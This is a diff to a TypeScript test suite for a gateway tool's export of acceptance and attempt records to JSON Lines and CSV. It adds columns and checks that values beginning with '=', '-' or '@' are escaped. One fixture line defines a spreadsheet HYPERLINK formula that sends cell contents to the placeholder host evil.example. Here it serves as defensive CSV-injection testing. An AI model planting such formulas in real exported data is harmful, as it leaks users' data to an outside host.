@@ -13,6 +13,8 @@ import { ended, gatewayctl, onTerminal, skipWithoutScript, startGatewayctl } fro
 
 const EXPORT = ['portal', 'acceptances', 'export']
 const sqlite = reachable.find(({ dialect }) => dialect === 'sqlite') ?? assert.fail()
+const ATTEMPT_COLUMNS =
+  'id,asked_at,answered_at,engine_status,policy_version,document_sha256,locale,document_source,client_address'
 const FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"x")'
 
 /** Two attempts at a verdict whose id begins with a hyphen, under a rule that is a formula; and one pending acceptance. */
@@ -25,7 +27,13 @@ async function smallLedger(t: TestContext, database = sqlite) {
     ruleName: FORMULA,
     clientAddress: '192.0.2.7',
   })
-  await replica.completeAttempt(await replica.beginAttempt(request), 403)
+  const elsewhere = {
+    locale: 'fr',
+    policyVersion: '@previous',
+    documentSource: 'assumed',
+    clientAddress: '2001:db8::7',
+  } as const
+  await replica.completeAttempt(await replica.beginAttempt({ ...request, ...elsewhere }), 403)
   await replica.completeAttempt(await replica.beginAttempt(request), 302)
   await replica.beginAttempt(acceptanceRequest({ ruleName: 'two\nlines, "quoted"' }))
   return location
@@ -38,7 +46,7 @@ for (const database of reachable) {
     test('JSON Lines hold every column as it is; CSV the same, but for formulas', async (t) => {
       const ledger = await smallLedger(t, database)
       const rows = await query(ledger, 'select * from acceptance order by requested_at')
-      const attempts = await query(ledger, 'select id, asked_at, answered_at, engine_status from attempt order by id')
+      const attempts = await query(ledger, `select ${ATTEMPT_COLUMNS} from attempt order by id`)
       const [jsonl, withAttempts, csv, csvWithAttempts] = await Promise.all(
         [['--format', 'jsonl'], ['--format', 'jsonl', '--attempts'], [], ['--attempts']].map((options) =>
           gatewayctl([...EXPORT, ...options], { ledger }),
@@ -69,11 +77,11 @@ for (const database of reachable) {
       // The verdict's id may begin with a hyphen by chance.
       assert.equal(csv?.stdout.replace("'-", '-'), `${header}\r\n${firstLine}\r\n${secondLine}\r\n`.replace("'-", '-'))
       assert.match(csv?.stdout ?? '', /,'-abcdefghijklmnopqrstu,/)
-      const ofAttempts = attempts.map((attempt) => Object.values(attempt).join(','))
+      const ofAttempts = attempts.map((attempt) => Object.values(attempt).join(',').replace('@', "'@"))
       assert.equal(
         csvWithAttempts?.stdout.replaceAll("'-", '-'),
         [
-          `${header},attempt_id,attempt_asked_at,attempt_answered_at,attempt_engine_status`,
+          `${header},${ATTEMPT_COLUMNS.replace(/^|(?<=,)/g, 'attempt_')}`,
           ...[firstLine, firstLine, secondLine].map((line, at) => `${line},${ofAttempts[at]}`),
           '',
         ]
@@ -139,7 +147,7 @@ test('the filters, nothing that matches, and attempts that are missing', async (
     [39, 49, 59, 69].map((number) => `verdict-000000000000${number}`),
   )
   assert.deepEqual([none.status, lines(none.stdout).length], [0, 1])
-  assert.equal(lines(withoutAttempts.stdout).filter((line) => line.endsWith(',,,,\r')).length, 70)
+  assert.equal(lines(withoutAttempts.stdout).filter((line) => line.endsWith(',,,,,,,,,\r')).length, 70)
 })
 
 describe('where it goes', () => {
